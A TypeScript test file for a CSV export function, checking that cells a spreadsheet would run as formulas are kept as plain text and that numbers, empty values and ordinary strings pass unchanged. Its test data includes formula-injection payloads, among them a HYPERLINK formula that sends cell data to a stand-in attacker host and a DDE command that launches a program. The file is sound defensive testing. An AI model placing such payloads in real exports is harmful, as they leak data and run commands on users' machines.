import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { csvText } from '../../../backend/table/csv-text.ts';

const reread = (rows: Parameters<typeof csvText>[0]): string[][] =>
  parse(csvText(rows), { relax_column_count: true, skip_empty_lines: false });

describe('a text that a spreadsheet would compute', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '+1',
    "-1+cmd|' /C calc'!A0",
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\ufeff=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '-5',
  ])('stays a text: %j', (text) => {
    expect(reread([[text, 'next']])).toEqual([[`'${text}`, 'next']]);
  });

  test.each(['a=1', 'trip-1', "'=1", '', 'é', '1', '#N/A'])(
    'and no other is changed: %j',
    (text) => {
      expect(reread([[text, 'next']])).toEqual([[text, 'next']]);
    },
  );
});

test('numbers stay numbers, below 0 as well, and what is missing is empty', () => {
  expect(csvText([[-1.5, 0, 1e21, -1e-7, null, undefined]])).toBe('-1.5,0,1e+21,-1e-7,,\n');
});

it('gives back every table but for the marks, and never begins a text as a formula does', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n ,;"\'a1') }),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
  );
  const rows = fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), {
    minLength: 1,
    maxLength: 4,
  });
  fc.assert(
    fc.property(rows, (table) => {
      const read = reread(table);
      expect(read.length).toBe(table.length);
      for (const [r, row] of table.entries())
        for (const [c, value] of row.entries()) {
          const text = read[r][c];
          if (typeof value === 'number') expect(Number(text)).toBe(value === 0 ? 0 : value);
          else {
            expect([value, `'${value}`]).toContain(text);
            expect(text.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
            expect(text).not.toMatch(/^[\t\r\n]/);
          }
        }
    }),
  );
});
